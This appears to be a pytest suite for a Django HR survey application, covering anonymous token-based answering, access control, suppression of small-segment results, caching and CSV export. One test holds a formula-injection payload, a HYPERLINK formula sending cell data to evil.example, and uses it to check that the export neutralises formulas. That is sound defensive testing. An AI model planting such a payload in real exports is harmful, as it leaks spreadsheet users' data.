from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone, translation

from surveys import services
from surveys.models import Answer, Invitation, Questionnaire, Response, Survey
from tests.factories import LeaderFactory
from tests.surveys.factories import InvitationFactory, ProgrammeFactory, SurveyFactory, add_responses, enrolled_leaders

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _no_mfa(settings):
    settings.MFA_REQUIRED_FOR_STAFF = False


@pytest.fixture
def leader_client(client):
    client.force_login(LeaderFactory().user)
    return client


def t(response, msgid):
    """msgid in the language the page was rendered in."""
    with translation.override(response.get("Content-Language", "nb")):
        return translation.gettext(msgid)


def _closed_survey(**kw):
    now = timezone.now()
    return SurveyFactory(opens_at=now - timedelta(days=30), closes_at=now - timedelta(days=1), **kw)


def _answer_url(inv):
    return reverse("surveys:answer", args=[inv.token])


def _post_page(client, inv, page, values, action="next"):
    data = {"page": page, "action": action, **values}
    return client.post(_answer_url(inv), data)


# --- answering -----------------------------------------------------------------


def test_answer_page_opens_without_login_and_shows_progress(client):
    inv = InvitationFactory()
    r = client.get(_answer_url(inv))
    assert r.status_code == 200
    total = inv.survey.questionnaire.questions.count()
    assert f'max="{total}"' in r.content.decode()
    assert r.content.decode().count("<fieldset") == 4
    assert 'type="radio"' in r.content.decode() and "<legend" in r.content.decode()


def test_answering_every_page_stores_one_anonymous_response(client):
    inv = InvitationFactory()
    questions = list(inv.survey.questionnaire.questions.order_by("order"))
    pages = [questions[i : i + 4] for i in range(0, len(questions), 4)]
    for n, page in enumerate(pages, start=1):
        values = {f"q{q.pk}": ("4" if q.is_likert else "Flere felles samlinger") for q in page}
        r = _post_page(client, inv, n, values, action="submit" if n == len(pages) else "next")
        assert r.status_code == 302
        # Nothing reaches the response tables before the last page is sent.
        assert Response.objects.count() == (1 if n == len(pages) else 0)
    assert r.url == reverse("surveys:answer_thanks")
    assert Invitation.objects.get(pk=inv.pk).answered
    assert Answer.objects.filter(value=4).count() == len([q for q in questions if q.is_likert])
    # The link now says "already answered" with 410 Gone.
    assert client.get(_answer_url(inv)).status_code == 410


def test_pause_and_resume_keeps_draft_in_session_not_database(client):
    inv = InvitationFactory()
    first = list(inv.survey.questionnaire.questions.order_by("order"))[:2]
    r = _post_page(client, inv, 1, {f"q{first[0].pk}": "2", f"q{first[1].pk}": "5"}, action="pause")
    assert r.status_code == 302
    assert Response.objects.count() == 0 and Answer.objects.count() == 0
    page = client.get(_answer_url(inv)).content.decode()
    assert f'id="q{first[0].pk}-2" name="q{first[0].pk}" value="2" checked' in page
    assert f'id="q{first[1].pk}-5" name="q{first[1].pk}" value="5" checked' in page


def test_next_with_missing_required_answer_stays_on_page(client):
    inv = InvitationFactory()
    r = _post_page(client, inv, 1, {})
    assert r.status_code == 400
    assert t(r, "Please answer this question.") in r.content.decode()
    assert Response.objects.count() == 0


def test_value_outside_scale_is_refused_and_not_kept(client):
    inv = InvitationFactory()
    q = inv.survey.questionnaire.questions.order_by("order").first()
    r = _post_page(client, inv, 1, {f"q{q.pk}": "9"})
    assert r.status_code == 400
    assert 'value="9"' not in r.content.decode()
    assert Response.objects.count() == 0


def test_submit_with_gaps_on_an_earlier_page_goes_back_to_it(client):
    inv = InvitationFactory()
    questions = list(inv.survey.questionnaire.questions.order_by("order"))
    last_page = (len(questions) + 3) // 4
    values = {f"q{q.pk}": "3" for q in questions[(last_page - 1) * 4 :] if q.is_likert}
    r = _post_page(client, inv, last_page, values, action="submit")
    assert r.status_code == 400
    assert f'name="q{questions[0].pk}"' in r.content.decode()
    assert Response.objects.count() == 0 and not Invitation.objects.get().answered


def test_unknown_token_is_a_clear_404(client):
    r = client.get(reverse("surveys:answer", args=["not-a-real-token"]))
    assert r.status_code == 404
    assert t(r, "This survey link is not valid.") in r.content.decode()
    assert client.post(reverse("surveys:answer", args=["nope"]), {"action": "submit"}).status_code == 404


def test_closed_survey_link_is_410_and_stores_nothing(client):
    inv = InvitationFactory(survey=_closed_survey())
    r = client.get(_answer_url(inv))
    assert r.status_code == 410
    assert t(r, "This survey is closed and no longer takes answers.") in r.content.decode()
    q = inv.survey.questionnaire.questions.first()
    assert _post_page(client, inv, 1, {f"q{q.pk}": "3"}, action="submit").status_code == 410
    assert Response.objects.count() == 0


def test_answer_page_refuses_other_methods(client):
    inv = InvitationFactory()
    assert client.put(_answer_url(inv)).status_code == 405


# --- HR pages: permissions ------------------------------------------------------


def _hr_urls(survey, questionnaire):
    return [
        reverse("surveys:survey_list"),
        reverse("surveys:survey_create"),
        reverse("surveys:survey_detail", args=[survey.pk]),
        reverse("surveys:survey_results", args=[survey.pk]),
        reverse("surveys:survey_results_csv", args=[survey.pk]),
        reverse("surveys:questionnaire_list"),
        reverse("surveys:questionnaire_detail", args=[questionnaire.pk]),
    ]


def test_hr_pages_open_for_hr(hr_client):
    survey = _closed_survey()
    for url in _hr_urls(survey, survey.questionnaire):
        assert hr_client.get(url).status_code == 200, url


def test_hr_pages_are_403_for_a_leader_and_redirect_anonymous(leader_client):
    survey = _closed_survey()
    for url in _hr_urls(survey, survey.questionnaire):
        assert leader_client.get(url).status_code == 403, url
    leader_client.logout()
    for url in _hr_urls(survey, survey.questionnaire):
        assert leader_client.get(url).status_code == 302, url


def test_unknown_survey_is_404_for_hr(hr_client):
    assert hr_client.get(reverse("surveys:survey_results", args=[999999])).status_code == 404


def test_mutations_refuse_get(hr_client):
    survey = SurveyFactory()
    for name in ("surveys:survey_invite", "surveys:survey_remind"):
        assert hr_client.get(reverse(name, args=[survey.pk])).status_code == 405
    assert hr_client.get(reverse("surveys:questionnaire_copy", args=[survey.questionnaire.pk])).status_code == 405


def test_leader_cannot_invite_remind_or_copy(leader_client):
    survey = SurveyFactory()
    assert (
        leader_client.post(reverse("surveys:survey_invite", args=[survey.pk]), {"audience": "programme"}).status_code
        == 403
    )
    assert leader_client.post(reverse("surveys:survey_remind", args=[survey.pk])).status_code == 403
    assert leader_client.post(reverse("surveys:questionnaire_copy", args=[survey.questionnaire.pk])).status_code == 403
    assert Invitation.objects.count() == 0 and Questionnaire.objects.count() == 2


# --- HR pages: behaviour --------------------------------------------------------


def test_hr_creates_a_survey(hr_client):
    programme = ProgrammeFactory()
    q = services.questionnaire_default_create()
    r = hr_client.post(
        reverse("surveys:survey_create"),
        {
            "programme": programme.pk,
            "questionnaire": q.pk,
            "title": "Samhandling høsten 2026",
            "kind": "baseline",
            "opens_at": "2026-09-01T08:00",
            "closes_at": "2026-09-15T16:00",
        },
    )
    survey = Survey.objects.get()
    assert r.status_code == 302 and r.url == reverse("surveys:survey_detail", args=[survey.pk])
    assert survey.wave == 1 and survey.series == q.series


def test_hr_create_with_closing_before_opening_stores_nothing(hr_client):
    r = hr_client.post(
        reverse("surveys:survey_create"),
        {
            "programme": ProgrammeFactory().pk,
            "questionnaire": services.questionnaire_default_create().pk,
            "title": "X",
            "kind": "pulse",
            "opens_at": "2026-09-15T08:00",
            "closes_at": "2026-09-01T08:00",
        },
    )
    assert r.status_code == 200 and Survey.objects.count() == 0


def test_hr_invites_programme_and_reminds(hr_client, django_capture_on_commit_callbacks):
    survey = SurveyFactory()
    enrolled_leaders(survey.programme, 3)
    with django_capture_on_commit_callbacks(execute=True):
        r = hr_client.post(reverse("surveys:survey_invite", args=[survey.pk]), {"audience": "programme"})
    assert r.status_code == 302 and Invitation.objects.filter(survey=survey).count() == 3
    with django_capture_on_commit_callbacks(execute=True):
        r = hr_client.post(reverse("surveys:survey_remind", args=[survey.pk]))
    assert r.status_code == 302


def test_detail_warns_when_survey_takes_over_five_minutes(hr_client):
    survey = SurveyFactory()
    q = survey.questionnaire
    services.questions_replace(
        questionnaire=q,
        questions=[{"kind": "likert", "text": f"q{i}", "dimension": "trust"} for i in range(30)]
        + [{"kind": "free_text", "text": "a"}, {"kind": "free_text", "text": "b"}],
    )
    r = hr_client.get(reverse("surveys:survey_detail", args=[survey.pk]))
    assert "pkt-alert--warning" in r.content.decode()


def test_questionnaire_edit_and_copy(hr_client):
    q = services.questionnaire_default_create()
    services.questions_replace(questionnaire=q, questions=[{"kind": "likert", "text": "Gammel", "dimension": "trust"}])
    data = {"name": "Kortversjon", "description": "", "q-TOTAL_FORMS": "2", "q-INITIAL_FORMS": "1"}
    data.update({"q-0-text": "Tillit", "q-0-kind": "likert", "q-0-dimension": "trust", "q-0-required": "on"})
    data.update({"q-1-text": "", "q-1-kind": "likert", "q-1-dimension": "", "q-1-required": "on"})
    r = hr_client.post(reverse("surveys:questionnaire_detail", args=[q.pk]), data)
    assert r.status_code == 302
    q.refresh_from_db()
    assert q.name == "Kortversjon" and list(q.questions.values_list("text", flat=True)) == ["Tillit"]
    r = hr_client.post(reverse("surveys:questionnaire_copy", args=[q.pk]))
    copy = Questionnaire.objects.get(version=2)
    assert r.url == reverse("surveys:questionnaire_detail", args=[copy.pk])


def test_frozen_questionnaire_edit_is_refused(hr_client):
    inv = InvitationFactory()
    services.response_submit(token=inv.token, answers={q.pk: 3 for q in inv.survey.questionnaire.questions.likert()})
    q = inv.survey.questionnaire
    before = list(q.questions.values_list("text", flat=True))
    data = {
        "name": "Endret",
        "q-TOTAL_FORMS": "1",
        "q-INITIAL_FORMS": "0",
        "q-0-text": "Ny",
        "q-0-kind": "likert",
        "q-0-dimension": "trust",
    }
    r = hr_client.post(reverse("surveys:questionnaire_detail", args=[q.pk]), data)
    assert r.status_code == 302
    assert list(q.questions.values_list("text", flat=True)) == before
    assert Questionnaire.objects.get(pk=q.pk).name != "Endret"


# --- results page --------------------------------------------------------------


def test_results_page_shows_figures_and_hides_small_segments(hr_client):
    survey = _closed_survey()
    add_responses(survey, 10, sector_code="HEL", values=[5])
    add_responses(survey, 7, sector_code="UKF", values=[4])
    add_responses(survey, 2, sector_code="BYU", values=[1])
    r = hr_client.get(reverse("surveys:survey_results", args=[survey.pk]), {"segment": "sector"})
    html = r.content.decode()
    assert r.status_code == 200
    assert "(n=10)" in html and "(n=2)" not in html and "(n=7)" not in html
    assert t(r, "too few answers") in html


def test_segment_under_k_requested_by_url_shows_no_figures(hr_client):
    survey = _closed_survey()
    add_responses(survey, 10, sector_code="HEL", values=[5])
    add_responses(survey, 2, sector_code="BYU", values=[1])
    r = hr_client.get(reverse("surveys:survey_results", args=[survey.pk]), {"segment": "sector", "value": "BYU"})
    html = r.content.decode()
    assert r.status_code == 200
    assert "pkt-alert--warning" in html and "<table" not in html
    assert "(n=2)" not in html
    csv = hr_client.get(reverse("surveys:survey_results_csv", args=[survey.pk]), {"segment": "sector", "value": "BYU"})
    body = csv.content.decode("utf-8-sig")
    hidden = ";" + t(csv, "yes")
    assert all(line.endswith(hidden) for line in body.strip().splitlines()[1:] if ";sector;" in line)
    lines = body.strip().splitlines()[1:]
    assert lines and not any(";BYU;" in line and not line.endswith(hidden) for line in lines)
    byu = [line.split(";") for line in lines if ";BYU;" in line]
    assert byu and all(row[5] == "" and row[6] == "" for row in byu)


def test_results_page_with_garbage_params_is_a_clear_400_not_an_error(hr_client):
    base = _closed_survey(kind="baseline", wave=1)
    follow = _closed_survey(kind="follow_up", wave=2, programme=base.programme)
    add_responses(base, 6)
    add_responses(follow, 6)
    url = reverse("surveys:survey_results", args=[follow.pk])
    csv_url = reverse("surveys:survey_results_csv", args=[follow.pk])
    for params in ({"segment": "level", "value": "x"}, {"segment": "nope"}):
        assert hr_client.get(url, params).status_code == 400
        assert hr_client.get(csv_url, params).status_code == 400
    # A group nobody is in is simply too small to show: the page, without figures for it.
    assert hr_client.get(url, {"segment": "sector", "value": "<b>"}).status_code == 200
    assert hr_client.get(csv_url, {"segment": "sector", "value": "<b>"}).status_code == 200


def test_results_page_of_open_survey_shows_no_figures(hr_client):
    survey = SurveyFactory()
    add_responses(survey, 8, values=[2])
    html = hr_client.get(reverse("surveys:survey_results", args=[survey.pk])).content.decode()
    assert "(n=8)" not in html and "<table" not in html


def test_results_csv_matches_the_suppression(hr_client):
    survey = _closed_survey()
    add_responses(survey, 10, sector_code="HEL", values=[5])
    add_responses(survey, 2, sector_code="BYU", values=[1])
    csv = hr_client.get(reverse("surveys:survey_results_csv", args=[survey.pk]), {"segment": "sector"})
    rows = [line.split(";") for line in csv.content.decode("utf-8-sig").strip().splitlines()[1:]]
    seg_rows = [row for row in rows if row[3] == "sector"]
    assert seg_rows and all(row[-1] == t(csv, "yes") and row[5] == "" for row in seg_rows)  # 2 hidden -> 10 too
    assert any(row[3] == "" and row[5] == "12" for row in rows)


def test_results_page_query_count_does_not_grow(hr_client, django_assert_max_num_queries):
    base = _closed_survey(kind="baseline", wave=1)
    follow = _closed_survey(kind="follow_up", wave=2, programme=base.programme)
    for code in ("A", "B", "C", "D", "E", "F", "G", "H"):
        add_responses(base, 6, sector_code=code, values=[2, 3], text="Tekst")
        add_responses(follow, 6, sector_code=code, values=[3, 4], text="Tekst")
    url = reverse("surveys:survey_results", args=[follow.pk])
    with django_assert_max_num_queries(21):  # cold: the figures are computed (and cached)
        r = hr_client.get(url, {"segment": "sector"})
    assert r.status_code == 200
    with django_assert_max_num_queries(21):
        cold = hr_client.get(url).content.decode()
    with django_assert_max_num_queries(7):  # warm: nothing changed, the figures come from the cache
        html = hr_client.get(url).content.decode()
    # Built again after a write to every table (the body is rendered again), the figures of a
    # closed survey are not computed again: they are kept under its answer counts.
    from toppleder import caching

    caching.bump_all()
    with django_assert_max_num_queries(8):  # + the actions on the factors, read for the body
        built = hr_client.get(url).content.decode()
    assert built[built.index("<main") :].split("<form")[0] == cold[cold.index("<main") :].split("<form")[0]
    assert (
        html.count("<tr") == cold.count("<tr")
        and html[html.index("<main") :].split("<form")[0] == cold[cold.index("<main") :].split("<form")[0]
    )
    assert 'role="img"' in html and "<title" in html and "<desc" in html


@pytest.mark.django_db(transaction=True)
def test_sign_ups_do_not_make_the_results_figures_be_computed_again(hr_client, django_assert_max_num_queries):
    """A sign-up writes registrations and the session's seat counters, which the figures do
    not read: under a stream of sign-ups the page still takes its figures from the cache."""
    from programmes import services as programme_services
    from tests.programmes.factories import SessionFactory, enrolled_leader

    survey = _closed_survey(kind="baseline", wave=1)
    add_responses(survey, 6, values=[2])
    session, leader = SessionFactory(programme=survey.programme), enrolled_leader(survey.programme)
    url = reverse("surveys:survey_results", args=[survey.pk])
    hr_client.get(url)
    programme_services.registration_create(session=session, leader=leader)
    with django_assert_max_num_queries(7):
        assert hr_client.get(url).status_code == 200


def test_results_page_shows_a_new_answer_at_once(hr_client):
    survey = _closed_survey(kind="baseline", wave=1)
    add_responses(survey, 6, values=[2])
    url = reverse("surveys:survey_results", args=[survey.pk])
    first = hr_client.get(url).context["result"]
    assert first.n == 6 and first.dimensions[0].overall.mean == pytest.approx(2)
    add_responses(survey, 6, values=[4])  # the cached figures must not hide these
    second = hr_client.get(url).context["result"]
    assert second.n == 12 and second.dimensions[0].overall.mean == pytest.approx(3)


# --- dashboard panel ------------------------------------------------------------


def test_leader_dashboard_lists_open_unanswered_surveys(client):
    inv = InvitationFactory()
    closed = InvitationFactory(survey=_closed_survey(), user=inv.user)
    client.force_login(inv.user)
    html = client.get("/").content.decode()
    assert _answer_url(inv) in html and _answer_url(closed) not in html
    # What the leader is told before opening it: which survey, how long it takes, until when.
    from surveys import questionnaire as qmod
    from surveys.selectors import question_kinds
    from toppleder.dates import fmt

    minutes = qmod.estimated_minutes(qmod.estimated_seconds(question_kinds(inv.survey.questionnaire)))
    assert minutes > 1
    assert inv.survey.title in html and f"Tar omtrent {minutes} minutter." in html
    assert f"Åpen til {fmt(inv.survey.closes_at)}." in html
    services.response_submit(token=inv.token, answers={q.pk: 3 for q in inv.survey.questionnaire.questions.likert()})
    assert _answer_url(inv) not in client.get("/").content.decode()


def test_hr_dashboard_lists_open_surveys_with_counts_only(hr_client):
    inv = InvitationFactory()
    html = hr_client.get("/").content.decode()
    assert reverse("surveys:survey_detail", args=[inv.survey.pk]) in html
    assert inv.user.email not in html


def test_read_only_pages_refuse_post(hr_client):
    survey = _closed_survey()
    for url in (
        reverse("surveys:survey_list"),
        reverse("surveys:survey_results", args=[survey.pk]),
        reverse("surveys:survey_results_csv", args=[survey.pk]),
        reverse("surveys:questionnaire_list"),
        reverse("surveys:answer_thanks"),
    ):
        assert hr_client.post(url).status_code == 405, url


def test_survey_and_questionnaire_lists_use_a_fixed_number_of_queries(hr_client, django_assert_max_num_queries):
    programme = ProgrammeFactory()
    for _ in range(30):
        survey = SurveyFactory(programme=programme)
        InvitationFactory(survey=survey)
        services.questionnaire_copy(questionnaire=survey.questionnaire)
    with django_assert_max_num_queries(10):
        assert hr_client.get(reverse("surveys:survey_list")).status_code == 200
    with django_assert_max_num_queries(10):
        assert hr_client.get(reverse("surveys:questionnaire_list")).status_code == 200


def test_answer_page_uses_a_fixed_number_of_queries(client, django_assert_max_num_queries):
    inv = InvitationFactory()
    with django_assert_max_num_queries(6):
        assert client.get(_answer_url(inv)).status_code == 200


def test_results_csv_never_hands_excel_a_formula(hr_client):
    """The title and question texts are HR's own text: written as text, never as a formula."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klikk")'
    survey = _closed_survey(title=evil)
    question = survey.questionnaire.questions.order_by("order").first()
    type(question).objects.filter(pk=question.pk).update(text="+SUM(A1)")
    csv = hr_client.get(reverse("surveys:survey_results_csv", args=[survey.pk]))  # too few answers: one row
    cells = [cell for line in csv.content.decode("utf-8-sig").splitlines() for cell in line.split(";")]
    assert "'" + evil.replace('"', '""') in csv.content.decode("utf-8-sig")
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
    add_responses(survey, 6)
    csv = hr_client.get(reverse("surveys:survey_results_csv", args=[survey.pk])).content.decode("utf-8-sig")
    assert "'+SUM(A1)" in csv
    assert not any(
        cell.lstrip('"').startswith(("=", "+", "-", "@")) for line in csv.splitlines() for cell in line.split(";")
    )


def test_hr_ties_a_survey_to_a_group_and_sees_sessions_by_date_and_programme_never_by_number(hr_client):
    from reflection_groups.models import ReflectionGroup
    from tests.factories import UserFactory
    from tests.programmes.factories import SessionFactory

    spring, autumn = (
        ProgrammeFactory(name="Lederløft", period="2026"),
        ProgrammeFactory(name="Topplederløft", period="2027"),
    )
    for programme in (spring, autumn):
        SessionFactory(
            programme=programme, title="Temasamling: Tillit i praksis", starts_at=timezone.now() + timedelta(days=3)
        )
    group = ReflectionGroup.objects.create(programme=spring, name="Refleksjonsgruppe Nord", facilitator=UserFactory())
    page = hr_client.get(reverse("surveys:survey_create"))
    html = page.content.decode()
    labels = [label for _value, label in page.context["form"].fields["session"].choices][1:]
    assert len(set(labels)) == 2 and all("Temasamling: Tillit i praksis – " in label for label in labels)
    assert any("(Topplederløft 2027)" in label for label in labels)
    assert "Refleksjonsgruppe Nord (Lederløft 2026)" in html
    assert 'type="number"' not in html  # no internal numbers to type
    q = services.questionnaire_default_create()
    r = hr_client.post(
        reverse("surveys:survey_create"),
        {
            "programme": spring.pk,
            "questionnaire": q.pk,
            "title": "Sluttevaluering Nord",
            "kind": "group_end",
            "opens_at": "2026-09-01T08:00",
            "closes_at": "2026-09-15T16:00",
            "group_ref": group.pk,
        },
    )
    assert r.status_code == 302
    assert Survey.objects.get(title="Sluttevaluering Nord").group_ref == group.pk
